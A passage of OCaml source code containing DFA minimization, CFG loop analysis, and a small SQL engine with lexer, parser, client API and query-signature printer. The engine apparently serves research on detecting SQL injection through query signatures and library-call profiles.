            (* split y into (y ∩ X) and (y \ X) *)
            let inside, outside = List.partition (fun p -> x_mem.(p)) members.(y) in
            let z = !nblocks in
            incr nblocks;
            members.(y) <- inside;
            sizes.(y) <- hits;
            members.(z) <- outside;
            sizes.(z) <- List.length outside;
            List.iter (fun p -> class_of.(p) <- z) outside;
            for c' = 0 to w - 1 do
              if in_w.((y * w) + c') then push z c'
              else push (if sizes.(y) <= sizes.(z) then y else z) c'
            done
          end)
        !affected
    done;
    (* rebuild: live blocks (not the dead state's) renumbered densely *)
    let dead_block = class_of.(dead) in
    let renum = Array.make !nblocks (-1) in
    let count = ref 0 in
    for b = 0 to !nblocks - 1 do
      if b <> dead_block && members.(b) <> [] then begin
        renum.(b) <- !count;
        incr count
      end
    done;
    let n' = !count in
    let trans = Array.make (max 1 (n' * w)) (-1) in
    for b = 0 to !nblocks - 1 do
      if renum.(b) >= 0 then begin
        let rep = List.hd members.(b) in
        for c = 0 to w - 1 do
          let q = delta rep c in
          trans.((renum.(b) * w) + c) <- (if q = dead then -1 else renum.(class_of.(q)))
        done
      end
    done;
    { dfa with start = renum.(class_of.(dfa.start)); nstates = n'; trans }
  end

let of_nfa ?max_states nfa = minimize (determinize ?max_states nfa)

let to_dot t =
  let buf = Buffer.create 1024 in
  Buffer.add_string buf "digraph dfa {\n  rankdir=LR;\n  node [shape=circle];\n";
  Buffer.add_string buf
    (Printf.sprintf "  init [shape=point]; init -> s%d;\n" t.start);
  let w = Array.length t.syms in
  for s = 0 to t.nstates - 1 do
    Buffer.add_string buf (Printf.sprintf "  s%d [label=\"%d\"];\n" s s);
    for c = 0 to w - 1 do
      let d = t.trans.((s * w) + c) in
      if d >= 0 then
        Buffer.add_string buf
          (Printf.sprintf "  s%d -> s%d [label=\"%s\"];\n" s d
             (String.escaped (Symbol.to_string t.syms.(c))))
    done
  done;
  Buffer.add_string buf "}\n";
  Buffer.contents buf

type loop = {
  header : int;
  latches : int list;
  body : int list;
  exits : (int * int) list;
}

module IS = Set.Make (Int)

let analyze (cfg : Cfg.t) =
  let dom = Dominator.compute cfg in
  (* back edges grouped by header, genuine (header dominates latch) only *)
  let by_header = Hashtbl.create 8 in
  List.iter
    (fun (latch, header) ->
      if Dominator.dominates dom header latch then
        let cur =
          match Hashtbl.find_opt by_header header with Some l -> l | None -> []
        in
        Hashtbl.replace by_header header (latch :: cur))
    cfg.Cfg.back_edges;
  let full_succs id =
    Cfg.successors cfg id
    @ List.filter_map
        (fun (src, dst) -> if src = id then Some dst else None)
        cfg.Cfg.back_edges
  in
  let full_preds id =
    Cfg.predecessors cfg id
    @ List.filter_map
        (fun (src, dst) -> if dst = id then Some src else None)
        cfg.Cfg.back_edges
  in
  let loop_of_header header latches =
    (* reverse reachability from the latches, stopping at the header *)
    let body = ref (IS.add header IS.empty) in
    let work = Queue.create () in
    List.iter
      (fun latch ->
        if not (IS.mem latch !body) then begin
          body := IS.add latch !body;
          Queue.add latch work
        end)
      latches;
    while not (Queue.is_empty work) do
      let n = Queue.pop work in
      List.iter
        (fun p ->
          if not (IS.mem p !body) then begin
            body := IS.add p !body;
            Queue.add p work
          end)
        (full_preds n)
    done;
    let body = !body in
    let exits =
      IS.fold
        (fun n acc ->
          List.fold_left
            (fun acc s -> if IS.mem s body then acc else (n, s) :: acc)
            acc (full_succs n))
        body []
      |> List.sort_uniq compare
    in
    {
      header;
      latches = List.sort_uniq compare latches;
      body = IS.elements body;
      exits;
    }
  in
  Hashtbl.fold (fun header latches acc -> loop_of_header header latches :: acc) by_header []
  |> List.sort (fun a b -> compare a.header b.header)

let loop_of loops id = List.find_opt (fun l -> List.mem id l.body) loops

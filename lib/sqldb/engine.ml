type table = { columns : string array; mutable trows : Value.t array list (* reversed *) }

type t = { tables : (string, table) Hashtbl.t }

type result = { columns : string array; rows : Value.t array array }

type outcome =
  | Rows of result
  | Affected of int

exception Sql_error of string

let create () = { tables = Hashtbl.create 8 }

let find_table t name =
  match Hashtbl.find_opt t.tables name with
  | Some tbl -> tbl
  | None -> raise (Sql_error (Printf.sprintf "unknown table %s" name))

let column_index (tbl : table) name =
  let rec loop i =
    if i >= Array.length tbl.columns then
      raise (Sql_error (Printf.sprintf "unknown column %s" name))
    else if tbl.columns.(i) = name then i
    else loop (i + 1)
  in
  loop 0

let resolve_literal params lit =
  match lit with
  | Sql_ast.L_int n -> Value.Int n
  | Sql_ast.L_str s -> Value.Str s
  | Sql_ast.L_null -> Value.Null
  | Sql_ast.L_param i ->
      if i >= Array.length params then
        raise (Sql_error (Printf.sprintf "missing parameter $%d" (i + 1)))
      else params.(i)

let like_match ~pattern text =
  let np = String.length pattern and nt = String.length text in
  (* Classic two-pointer glob matcher with backtracking on '%'. *)
  let rec go p t star_p star_t =
    if t >= nt then
      if p >= np then true
      else if pattern.[p] = '%' then go (p + 1) t star_p star_t
      else false
    else if p < np && (pattern.[p] = '_' || pattern.[p] = text.[t]) then
      go (p + 1) (t + 1) star_p star_t
    else if p < np && pattern.[p] = '%' then go (p + 1) t (Some p) t
    else
      match star_p with
      | Some sp -> go (sp + 1) (star_t + 1) star_p (star_t + 1)
      | None -> false
  in
  go 0 0 None 0

(* SQL three-valued logic collapsed to two values: NULL comparisons are
   false, which matches the behaviour the attacks rely on. *)
let rec eval_where (tbl : table) params row expr =
  let operand = function
    | Sql_ast.Col name -> row.(column_index tbl name)
    | Sql_ast.Lit l -> resolve_literal params l
    | Sql_ast.Cmp _ | Sql_ast.And _ | Sql_ast.Or _ | Sql_ast.Not _ | Sql_ast.Like _
    | Sql_ast.In _ ->
        raise (Sql_error "nested boolean expression used as operand")
  in
  match expr with
  | Sql_ast.Cmp (op, a, b) -> (
      match Value.compare_values (operand a) (operand b) with
      | None -> false
      | Some c -> (
          match op with
          | Sql_ast.Ceq -> c = 0
          | Sql_ast.Cne -> c <> 0
          | Sql_ast.Clt -> c < 0
          | Sql_ast.Cle -> c <= 0
          | Sql_ast.Cgt -> c > 0
          | Sql_ast.Cge -> c >= 0))
  | Sql_ast.And (a, b) -> eval_where tbl params row a && eval_where tbl params row b
  | Sql_ast.Or (a, b) -> eval_where tbl params row a || eval_where tbl params row b
  | Sql_ast.Not a -> not (eval_where tbl params row a)
  | Sql_ast.Like (a, b) -> (
      match (operand a, operand b) with
      | Value.Null, _ | _, Value.Null -> false
      | va, vb -> like_match ~pattern:(Value.to_string vb) (Value.to_string va))
  | Sql_ast.In (a, lits) ->
      let v = operand a in
      List.exists
        (fun lit -> Value.compare_values v (resolve_literal params lit) = Some 0)
        lits
  | Sql_ast.Col _ | Sql_ast.Lit _ -> raise (Sql_error "non-boolean WHERE clause")

let matching_rows tbl params where =
  let rows = List.rev tbl.trows in
  match where with
  | None -> rows
  | Some expr -> List.filter (fun row -> eval_where tbl params row expr) rows

let execute ?(params = [||]) t stmt =
  match stmt with
  | Sql_ast.Create { table; columns } ->
      if Hashtbl.mem t.tables table then raise (Sql_error (Printf.sprintf "table %s exists" table));
      if columns = [] then raise (Sql_error "CREATE TABLE with no columns");
      Hashtbl.replace t.tables table { columns = Array.of_list columns; trows = [] };
      Affected 0
  | Sql_ast.Insert { table; columns; values } ->
      let tbl = find_table t table in
      let positions =
        match columns with
        | None -> Array.init (Array.length tbl.columns) (fun i -> i)
        | Some cols -> Array.of_list (List.map (column_index tbl) cols)
      in
      let insert_tuple lits =
        if List.length lits <> Array.length positions then
          raise (Sql_error "INSERT arity mismatch");
        let row = Array.make (Array.length tbl.columns) Value.Null in
        List.iteri (fun i lit -> row.(positions.(i)) <- resolve_literal params lit) lits;
        tbl.trows <- row :: tbl.trows
      in
      List.iter insert_tuple values;
      Affected (List.length values)
  | Sql_ast.Select { projection; table; where; order_by; limit } ->
      let tbl = find_table t table in
      let rows = matching_rows tbl params where in
      let rows =
        match order_by with
        | None -> rows
        | Some (column, dir) ->
            let idx = column_index tbl column in
            let cmp a b =
              let c =
                match Value.compare_values a.(idx) b.(idx) with
                | Some c -> c
                | None -> 0
              in
              match dir with Sql_ast.Asc -> c | Sql_ast.Desc -> -c
            in
            List.stable_sort cmp rows
      in
      let rows =
        match limit with
        | None -> rows
        | Some k -> List.filteri (fun i _ -> i < k) rows
      in
      (match projection with
      | Sql_ast.Count_star ->
          Rows { columns = [| "count" |]; rows = [| [| Value.Int (List.length rows) |] |] }
      | Sql_ast.Aggregate (agg, column) ->
          let idx = column_index tbl column in
          let ints =
            List.filter_map
              (fun row ->
                match row.(idx) with
                | Value.Int n -> Some n
                | Value.Str s -> int_of_string_opt s
                | Value.Null -> None)
              rows
          in
          let result =
            match (agg, ints) with
            | _, [] -> Value.Null
            | Sql_ast.Sum, xs -> Value.Int (List.fold_left ( + ) 0 xs)
            | Sql_ast.Avg, xs ->
                Value.Int (List.fold_left ( + ) 0 xs / List.length xs)
            | Sql_ast.Min_agg, x :: xs -> Value.Int (List.fold_left min x xs)
            | Sql_ast.Max_agg, x :: xs -> Value.Int (List.fold_left max x xs)
          in
          let name =
            match agg with
            | Sql_ast.Sum -> "sum"
            | Sql_ast.Avg -> "avg"
            | Sql_ast.Min_agg -> "min"
            | Sql_ast.Max_agg -> "max"
          in
          Rows { columns = [| name |]; rows = [| [| result |] |] }
      | Sql_ast.Star -> Rows { columns = Array.copy tbl.columns; rows = Array.of_list rows }
      | Sql_ast.Columns cols ->
          let idxs = List.map (column_index tbl) cols in
          let project row = Array.of_list (List.map (fun i -> row.(i)) idxs) in
          Rows { columns = Array.of_list cols; rows = Array.of_list (List.map project rows) })
  | Sql_ast.Update { table; sets; where } ->
      let tbl = find_table t table in
      let sets = List.map (fun (c, l) -> (column_index tbl c, l)) sets in
      let count = ref 0 in
      let update row =
        let hit = match where with None -> true | Some e -> eval_where tbl params row e in
        if hit then begin
          incr count;
          List.iter (fun (i, lit) -> row.(i) <- resolve_literal params lit) sets
        end
      in
      List.iter update tbl.trows;
      Affected !count
  | Sql_ast.Delete { table; where } ->
      let tbl = find_table t table in
      let keep, gone =
        List.partition
          (fun row -> match where with None -> false | Some e -> not (eval_where tbl params row e))
          tbl.trows
      in
      tbl.trows <- keep;
      Affected (List.length gone)

let exec t sql = execute t (Sql_parser.parse sql)

let table_names t = Hashtbl.fold (fun name _ acc -> name :: acc) t.tables []

let row_count t name = List.length (find_table t name).trows

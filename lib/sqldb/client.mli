(** Client-side API over the engine, mirroring the libpq and MySQL C
    client libraries used by the paper's subject applications.

    The interpreter's builtins ([pq_exec], [mysql_query],
    [mysql_fetch_row], ...) are thin wrappers over this module; the
    result/cursor model matches the C APIs closely enough that the call
    sequences of Figs. 1, 2 and 9 arise naturally. *)

type dialect = Postgres | Mysql

type conn

type exec_result =
  | Result of Engine.result  (** rows of a SELECT *)
  | Command_ok of int  (** affected-row count *)
  | Error of string  (** parse or semantic failure, as a message *)

type cursor
(** Iterator over a result set ([mysql_store_result] /
    [mysql_fetch_row] style). *)

type prepared

val connect : Engine.t -> dialect -> conn
val dialect : conn -> dialect
val engine : conn -> Engine.t

val set_last_result : conn -> exec_result option -> unit
(** MySQL-style connections remember the outcome of the last
    [mysql_query] until [mysql_store_result] claims it. *)

val last_result : conn -> exec_result option

val exec : conn -> string -> exec_result
(** Execute raw SQL text — the injectable path. Never raises; failures
    come back as [Error]. *)

val prepare : conn -> string -> (prepared, string) Stdlib.result
val exec_prepared : conn -> prepared -> Value.t list -> exec_result

val prepared_statement : prepared -> Sql_ast.statement

val bound_text : prepared -> Value.t list -> string
(** Canonical SQL text of the prepared statement with the given
    parameters substituted for their placeholders — what a server-side
    query log would show for this execution. *)

val ntuples : exec_result -> int
(** [PQntuples]: row count; 0 for non-result outcomes. *)

val nfields : exec_result -> int

val getvalue : exec_result -> int -> int -> Value.t
(** [PQgetvalue res row col]; [Value.Null] when out of range or not a
    result set (libpq returns an empty string; Null keeps taint
    tracking honest). *)

val cursor_of_result : exec_result -> cursor option
(** [mysql_store_result]: [None] when the outcome carried no rows. *)

val fetch_row : cursor -> Value.t array option
(** [mysql_fetch_row]: next row or [None] when exhausted. *)

val cursor_num_rows : cursor -> int
val cursor_num_fields : cursor -> int

(** Abstract syntax of the SQL dialect understood by the mini engine.

    The dialect covers what the paper's client applications issue:
    CREATE TABLE, INSERT, SELECT (with WHERE, COUNT star, ORDER BY, LIMIT),
    UPDATE and DELETE. WHERE supports comparisons, AND/OR/NOT and LIKE,
    which is enough for tautology-based SQL injection to change result
    cardinality exactly as in Fig. 2 of the paper. *)

type literal =
  | L_int of int
  | L_str of string
  | L_null
  | L_param of int  (** [?] placeholder, numbered from 0, for prepared statements *)

type cmp = Ceq | Cne | Clt | Cle | Cgt | Cge

type expr =
  | Col of string
  | Lit of literal
  | Cmp of cmp * expr * expr
  | And of expr * expr
  | Or of expr * expr
  | Not of expr
  | Like of expr * expr  (** [lhs LIKE pattern]; pattern uses [%] and [_] *)
  | In of expr * literal list  (** [lhs IN (l1, l2, ...)]; NULL members never match *)

type aggregate = Sum | Avg | Min_agg | Max_agg

type projection =
  | Star
  | Columns of string list
  | Count_star
  | Aggregate of aggregate * string
      (** [SUM(col)], [AVG(col)], [MIN(col)], [MAX(col)]; NULLs are
          skipped, the empty set yields NULL, AVG truncates to int *)

type order = Asc | Desc

type statement =
  | Create of { table : string; columns : string list }
  | Insert of { table : string; columns : string list option; values : literal list list }
  | Select of {
      projection : projection;
      table : string;
      where : expr option;
      order_by : (string * order) option;
      limit : int option;
    }
  | Update of { table : string; sets : (string * literal) list; where : expr option }
  | Delete of { table : string; where : expr option }

val param_count : statement -> int
(** Number of distinct [?] placeholders (max index + 1). *)

val map_literals : (literal -> literal) -> statement -> statement
(** Rewrite every literal position in the statement (INSERT values,
    UPDATE sets, WHERE operands and IN-list members) in source order. *)

val bind_params : Value.t array -> statement -> statement
(** Substitute [L_param i] with the literal form of [params.(i)].
    Placeholders beyond the array are left untouched, so the result of a
    partial binding still reports the missing ones via [param_count]. *)

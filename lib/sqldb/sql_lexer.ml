type token =
  | T_int of int
  | T_str of string
  | T_ident of string
  | T_kw of string
  | T_star
  | T_comma
  | T_lparen
  | T_rparen
  | T_eq | T_ne | T_lt | T_le | T_gt | T_ge
  | T_param
  | T_semi
  | T_eof

exception Error of string

let keywords =
  [
    "SELECT"; "FROM"; "WHERE"; "INSERT"; "INTO"; "VALUES"; "UPDATE"; "SET";
    "DELETE"; "CREATE"; "TABLE"; "AND"; "OR"; "NOT"; "NULL"; "LIKE"; "IN"; "COUNT";
    "ORDER"; "BY"; "ASC"; "DESC"; "LIMIT"; "SUM"; "AVG"; "MIN"; "MAX";
  ]

let is_ident_start c = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c = '_'
let is_ident_char c = is_ident_start c || (c >= '0' && c <= '9')
let is_digit c = c >= '0' && c <= '9'

let tokenize src =
  let n = String.length src in
  let pos = ref 0 in
  let peek () = if !pos < n then Some src.[!pos] else None in
  let peek2 () = if !pos + 1 < n then Some src.[!pos + 1] else None in
  let tokens = ref [] in
  let emit t = tokens := t :: !tokens in
  let lex_string () =
    incr pos;
    let buf = Buffer.create 16 in
    let rec loop () =
      match peek () with
      | None -> raise (Error "unterminated string literal")
      | Some '\'' when peek2 () = Some '\'' ->
          Buffer.add_char buf '\'';
          pos := !pos + 2;
          loop ()
      | Some '\'' -> incr pos
      | Some c ->
          Buffer.add_char buf c;
          incr pos;
          loop ()
    in
    loop ();
    Buffer.contents buf
  in
  while !pos < n do
    match src.[!pos] with
    | ' ' | '\t' | '\r' | '\n' -> incr pos
    | '\'' -> emit (T_str (lex_string ()))
    | c when is_digit c ->
        let start = !pos in
        while !pos < n && is_digit src.[!pos] do
          incr pos
        done;
        emit (T_int (int_of_string (String.sub src start (!pos - start))))
    | c when is_ident_start c ->
        let start = !pos in
        while !pos < n && is_ident_char src.[!pos] do
          incr pos
        done;
        let word = String.sub src start (!pos - start) in
        let upper = String.uppercase_ascii word in
        if List.mem upper keywords then emit (T_kw upper)
        else emit (T_ident (String.lowercase_ascii word))
    | '*' -> emit T_star; incr pos
    | ',' -> emit T_comma; incr pos
    | '(' -> emit T_lparen; incr pos
    | ')' -> emit T_rparen; incr pos
    | ';' -> emit T_semi; incr pos
    | '?' -> emit T_param; incr pos
    | '=' -> emit T_eq; incr pos
    | '<' -> (
        match peek2 () with
        | Some '>' -> emit T_ne; pos := !pos + 2
        | Some '=' -> emit T_le; pos := !pos + 2
        | _ -> emit T_lt; incr pos)
    | '>' -> (
        match peek2 () with
        | Some '=' -> emit T_ge; pos := !pos + 2
        | _ -> emit T_gt; incr pos)
    | '!' -> (
        match peek2 () with
        | Some '=' -> emit T_ne; pos := !pos + 2
        | _ -> raise (Error "expected '!='"))
    | c -> raise (Error (Printf.sprintf "unexpected character '%c' in SQL" c))
  done;
  List.rev (T_eof :: !tokens)

(** Printing and normalization of SQL statements.

    [signature] renders a statement with every literal replaced by [?],
    yielding the "query signature" of Sec. VII of the paper: recording
    signatures along with library calls mitigates attacks that keep the
    call sequence intact but alter the query structure. *)

val to_string : Sql_ast.statement -> string
(** Canonical rendering; parses back to an equal statement (modulo
    placeholder numbering). *)

val signature : Sql_ast.statement -> string
(** Literal-erased canonical form, e.g.
    [SELECT * FROM clients WHERE id = ?]. Two queries that differ only
    in constants share a signature; structural changes (extra OR,
    different columns) do not.

    Canonicalization rules: keyword case and whitespace are normalized
    by the parser; [LIMIT n] erases to [LIMIT ?]; IN-lists collapse to
    an arity class [(?{1})], [(?{few})] (2..8 members) or [(?{many})]
    (>8), so equivalent statements differing only in IN-list length
    share a signature; multi-tuple INSERTs collapse to the first tuple
    plus an [{xfew}]/[{xmany}] marker.

    Migration note (profile stability): before this change the dialect
    had no IN operator — every IN query was unparseable and mapped to
    the profile's malformed bucket — and no statement in the shipped
    datasets uses LIMIT with trained profiles persisted, so signatures
    learned by earlier [Core.Qsig] profiles are unchanged; only
    previously-malformed IN queries gain real signatures. *)

val signature_of_sql : string -> string option
(** Convenience: parse then [signature]; [None] when the text is not
    parseable SQL. *)

open Sql_lexer

(* Declared after the open so it is not shadowed by [Sql_lexer.Error]. *)
exception Error of string

type state = { mutable toks : token list; mutable next_param : int }

let peek st = match st.toks with t :: _ -> t | [] -> T_eof
let advance st = match st.toks with _ :: rest -> st.toks <- rest | [] -> ()

let fail msg = raise (Error msg)

let expect st tok msg = if peek st = tok then advance st else fail msg

let expect_kw st kw = expect st (T_kw kw) (Printf.sprintf "expected %s" kw)

let expect_ident st msg =
  match peek st with
  | T_ident name ->
      advance st;
      name
  | _ -> fail msg

let fresh_param st =
  let i = st.next_param in
  st.next_param <- i + 1;
  i

let parse_literal st =
  match peek st with
  | T_int n -> advance st; Sql_ast.L_int n
  | T_str s -> advance st; Sql_ast.L_str s
  | T_kw "NULL" -> advance st; Sql_ast.L_null
  | T_param -> advance st; Sql_ast.L_param (fresh_param st)
  | _ -> fail "expected a literal"

let parse_operand st =
  match peek st with
  | T_ident name ->
      advance st;
      Sql_ast.Col name
  | _ -> Sql_ast.Lit (parse_literal st)

let cmp_of_token = function
  | T_eq -> Some Sql_ast.Ceq
  | T_ne -> Some Sql_ast.Cne
  | T_lt -> Some Sql_ast.Clt
  | T_le -> Some Sql_ast.Cle
  | T_gt -> Some Sql_ast.Cgt
  | T_ge -> Some Sql_ast.Cge
  | _ -> None

let rec parse_where_expr st = parse_or st

and parse_or st =
  let lhs = parse_and st in
  if peek st = T_kw "OR" then begin
    advance st;
    Sql_ast.Or (lhs, parse_or st)
  end
  else lhs

and parse_and st =
  let lhs = parse_not st in
  if peek st = T_kw "AND" then begin
    advance st;
    Sql_ast.And (lhs, parse_and st)
  end
  else lhs

and parse_not st =
  if peek st = T_kw "NOT" then begin
    advance st;
    Sql_ast.Not (parse_not st)
  end
  else parse_predicate st

and parse_predicate st =
  if peek st = T_lparen then begin
    advance st;
    let e = parse_where_expr st in
    expect st T_rparen "expected ')'";
    e
  end
  else
    let lhs = parse_operand st in
    match peek st with
    | T_kw "LIKE" ->
        advance st;
        Sql_ast.Like (lhs, parse_operand st)
    | T_kw "IN" ->
        advance st;
        Sql_ast.In (lhs, parse_in_list st)
    | T_kw "NOT" ->
        advance st;
        expect_kw st "IN";
        Sql_ast.Not (Sql_ast.In (lhs, parse_in_list st))
    | tok -> (
        match cmp_of_token tok with
        | Some cmp ->
            advance st;
            Sql_ast.Cmp (cmp, lhs, parse_operand st)
        | None -> fail "expected a comparison operator")

and parse_in_list st =
  expect st T_lparen "expected '(' after IN";
  let rec loop acc =
    let l = parse_literal st in
    if peek st = T_comma then begin
      advance st;
      loop (l :: acc)
    end
    else begin
      expect st T_rparen "expected ')' after IN list";
      List.rev (l :: acc)
    end
  in
  loop []

let parse_opt_where st =
  if peek st = T_kw "WHERE" then begin
    advance st;
    Some (parse_where_expr st)
  end
  else None

let parse_ident_list st =
  let rec loop acc =
    let name = expect_ident st "expected a column name" in
    if peek st = T_comma then begin
      advance st;
      loop (name :: acc)
    end
    else List.rev (name :: acc)
  in
  loop []

let parse_select st =
  advance st;
  let projection =
    match peek st with
    | T_star ->
        advance st;
        Sql_ast.Star
    | T_kw "COUNT" ->
        advance st;
        expect st T_lparen "expected '(' after COUNT";
        expect st T_star "expected '*' in COUNT(*)";
        expect st T_rparen "expected ')' after COUNT(*";
        Sql_ast.Count_star
    | T_kw (("SUM" | "AVG" | "MIN" | "MAX") as fn) ->
        advance st;
        expect st T_lparen "expected '(' after aggregate";
        let column = expect_ident st "expected a column in aggregate" in
        expect st T_rparen "expected ')' after aggregate";
        let agg =
          match fn with
          | "SUM" -> Sql_ast.Sum
          | "AVG" -> Sql_ast.Avg
          | "MIN" -> Sql_ast.Min_agg
          | _ -> Sql_ast.Max_agg
        in
        Sql_ast.Aggregate (agg, column)
    | _ -> Sql_ast.Columns (parse_ident_list st)
  in
  expect_kw st "FROM";
  let table = expect_ident st "expected a table name" in
  let where = parse_opt_where st in
  let order_by =
    if peek st = T_kw "ORDER" then begin
      advance st;
      expect_kw st "BY";
      let column = expect_ident st "expected a column in ORDER BY" in
      let dir =
        match peek st with
        | T_kw "DESC" -> advance st; Sql_ast.Desc
        | T_kw "ASC" -> advance st; Sql_ast.Asc
        | _ -> Sql_ast.Asc
      in
      Some (column, dir)
    end
    else None
  in
  let limit =
    if peek st = T_kw "LIMIT" then begin
      advance st;
      match peek st with
      | T_int n ->
          advance st;
          Some n
      | _ -> fail "expected an integer after LIMIT"
    end
    else None
  in
  Sql_ast.Select { projection; table; where; order_by; limit }

let parse_insert st =
  advance st;
  expect_kw st "INTO";
  let table = expect_ident st "expected a table name" in
  let columns =
    if peek st = T_lparen then begin
      advance st;
      let cols = parse_ident_list st in
      expect st T_rparen "expected ')'";
      Some cols
    end
    else None
  in
  expect_kw st "VALUES";
  let parse_tuple () =
    expect st T_lparen "expected '('";
    let rec loop acc =
      let l = parse_literal st in
      if peek st = T_comma then begin
        advance st;
        loop (l :: acc)
      end
      else begin
        expect st T_rparen "expected ')'";
        List.rev (l :: acc)
      end
    in
    loop []
  in
  let rec tuples acc =
    let t = parse_tuple () in
    if peek st = T_comma then begin
      advance st;
      tuples (t :: acc)
    end
    else List.rev (t :: acc)
  in
  Sql_ast.Insert { table; columns; values = tuples [] }

let parse_update st =
  advance st;
  let table = expect_ident st "expected a table name" in
  expect_kw st "SET";
  let rec sets acc =
    let column = expect_ident st "expected a column name" in
    expect st T_eq "expected '='";
    let lit = parse_literal st in
    if peek st = T_comma then begin
      advance st;
      sets ((column, lit) :: acc)
    end
    else List.rev ((column, lit) :: acc)
  in
  let sets = sets [] in
  Sql_ast.Update { table; sets; where = parse_opt_where st }

let parse_delete st =
  advance st;
  expect_kw st "FROM";
  let table = expect_ident st "expected a table name" in
  Sql_ast.Delete { table; where = parse_opt_where st }

let parse_create st =
  advance st;
  expect_kw st "TABLE";
  let table = expect_ident st "expected a table name" in
  expect st T_lparen "expected '('";
  let columns = parse_ident_list st in
  expect st T_rparen "expected ')'";
  Sql_ast.Create { table; columns }

let parse src =
  let st = { toks = Sql_lexer.tokenize src; next_param = 0 } in
  let stmt =
    match peek st with
    | T_kw "SELECT" -> parse_select st
    | T_kw "INSERT" -> parse_insert st
    | T_kw "UPDATE" -> parse_update st
    | T_kw "DELETE" -> parse_delete st
    | T_kw "CREATE" -> parse_create st
    | _ -> fail "expected SELECT, INSERT, UPDATE, DELETE or CREATE"
  in
  if peek st = T_semi then advance st;
  (match peek st with T_eof -> () | _ -> fail "trailing tokens after statement");
  stmt

open Sql_ast

let quote s =
  let buf = Buffer.create (String.length s + 2) in
  Buffer.add_char buf '\'';
  String.iter
    (fun c ->
      if c = '\'' then Buffer.add_string buf "''" else Buffer.add_char buf c)
    s;
  Buffer.add_char buf '\'';
  Buffer.contents buf

let literal ~erase = function
  | L_int n -> if erase then "?" else string_of_int n
  | L_str s -> if erase then "?" else quote s
  | L_null -> "NULL"
  | L_param _ -> "?"

(* Arity class used by [signature]: collapses IN-list and VALUES-tuple
   counts so profiles are invariant under list length within a class. *)
let arity_class n = if n <= 1 then "1" else if n <= 8 then "few" else "many"

let cmp_to_string = function
  | Ceq -> "="
  | Cne -> "<>"
  | Clt -> "<"
  | Cle -> "<="
  | Cgt -> ">"
  | Cge -> ">="

(* Precedence: OR < AND < NOT < predicates. *)
let rec expr_to_string ~erase ctx e =
  let wrap p body = if p < ctx then "(" ^ body ^ ")" else body in
  match e with
  | Col c -> c
  | Lit l -> literal ~erase l
  | Cmp (op, a, b) ->
      Printf.sprintf "%s %s %s"
        (expr_to_string ~erase 4 a)
        (cmp_to_string op)
        (expr_to_string ~erase 4 b)
  | Like (a, b) ->
      Printf.sprintf "%s LIKE %s" (expr_to_string ~erase 4 a) (expr_to_string ~erase 4 b)
  | In (a, lits) ->
      let members =
        if erase then Printf.sprintf "?{%s}" (arity_class (List.length lits))
        else String.concat ", " (List.map (literal ~erase) lits)
      in
      Printf.sprintf "%s IN (%s)" (expr_to_string ~erase 4 a) members
  | Not a -> wrap 3 ("NOT " ^ expr_to_string ~erase 3 a)
  | And (a, b) ->
      wrap 2 (Printf.sprintf "%s AND %s" (expr_to_string ~erase 2 a) (expr_to_string ~erase 2 b))
  | Or (a, b) ->
      wrap 1 (Printf.sprintf "%s OR %s" (expr_to_string ~erase 1 a) (expr_to_string ~erase 1 b))

let render ~erase stmt =
  let where w =
    match w with
    | None -> ""
    | Some e -> " WHERE " ^ expr_to_string ~erase 0 e
  in
  match stmt with
  | Create { table; columns } ->
      Printf.sprintf "CREATE TABLE %s (%s)" table (String.concat ", " columns)
  | Insert { table; columns; values } ->
      let cols =
        match columns with
        | None -> ""
        | Some cs -> Printf.sprintf " (%s)" (String.concat ", " cs)
      in
      let tuple lits =
        Printf.sprintf "(%s)" (String.concat ", " (List.map (literal ~erase) lits))
      in
      let tuples =
        match values with
        | first :: _ :: _ when erase ->
            Printf.sprintf "%s {x%s}" (tuple first) (arity_class (List.length values))
        | _ -> String.concat ", " (List.map tuple values)
      in
      Printf.sprintf "INSERT INTO %s%s VALUES %s" table cols tuples
  | Select { projection; table; where = w; order_by; limit } ->
      let proj =
        match projection with
        | Star -> "*"
        | Count_star -> "COUNT(*)"
        | Aggregate (Sum, c) -> Printf.sprintf "SUM(%s)" c
        | Aggregate (Avg, c) -> Printf.sprintf "AVG(%s)" c
        | Aggregate (Min_agg, c) -> Printf.sprintf "MIN(%s)" c
        | Aggregate (Max_agg, c) -> Printf.sprintf "MAX(%s)" c
        | Columns cs -> String.concat ", " cs
      in
      let order =
        match order_by with
        | None -> ""
        | Some (c, Asc) -> Printf.sprintf " ORDER BY %s ASC" c
        | Some (c, Desc) -> Printf.sprintf " ORDER BY %s DESC" c
      in
      let lim =
        match limit with
        | None -> ""
        | Some n -> if erase then " LIMIT ?" else Printf.sprintf " LIMIT %d" n
      in
      Printf.sprintf "SELECT %s FROM %s%s%s%s" proj table (where w) order lim
  | Update { table; sets; where = w } ->
      let set (c, l) = Printf.sprintf "%s = %s" c (literal ~erase l) in
      Printf.sprintf "UPDATE %s SET %s%s" table (String.concat ", " (List.map set sets))
        (where w)
  | Delete { table; where = w } -> Printf.sprintf "DELETE FROM %s%s" table (where w)

let to_string stmt = render ~erase:false stmt

let signature stmt = render ~erase:true stmt

let signature_of_sql sql =
  match Sql_parser.parse sql with
  | stmt -> Some (signature stmt)
  | exception Sql_parser.Error _ -> None
  | exception Sql_lexer.Error _ -> None

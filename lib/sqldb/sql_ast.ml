type literal =
  | L_int of int
  | L_str of string
  | L_null
  | L_param of int

type cmp = Ceq | Cne | Clt | Cle | Cgt | Cge

type expr =
  | Col of string
  | Lit of literal
  | Cmp of cmp * expr * expr
  | And of expr * expr
  | Or of expr * expr
  | Not of expr
  | Like of expr * expr
  | In of expr * literal list

type aggregate = Sum | Avg | Min_agg | Max_agg

type projection =
  | Star
  | Columns of string list
  | Count_star
  | Aggregate of aggregate * string

type order = Asc | Desc

type statement =
  | Create of { table : string; columns : string list }
  | Insert of { table : string; columns : string list option; values : literal list list }
  | Select of {
      projection : projection;
      table : string;
      where : expr option;
      order_by : (string * order) option;
      limit : int option;
    }
  | Update of { table : string; sets : (string * literal) list; where : expr option }
  | Delete of { table : string; where : expr option }

let literal_params = function L_param i -> [ i ] | L_int _ | L_str _ | L_null -> []

let rec expr_params = function
  | Col _ -> []
  | Lit l -> literal_params l
  | Cmp (_, a, b) | And (a, b) | Or (a, b) | Like (a, b) -> expr_params a @ expr_params b
  | Not a -> expr_params a
  | In (a, lits) -> expr_params a @ List.concat_map literal_params lits

let where_params = function None -> [] | Some e -> expr_params e

let param_count stmt =
  let indices =
    match stmt with
    | Create _ -> []
    | Insert { values; _ } -> List.concat_map (List.concat_map literal_params) values
    | Select { where; _ } -> where_params where
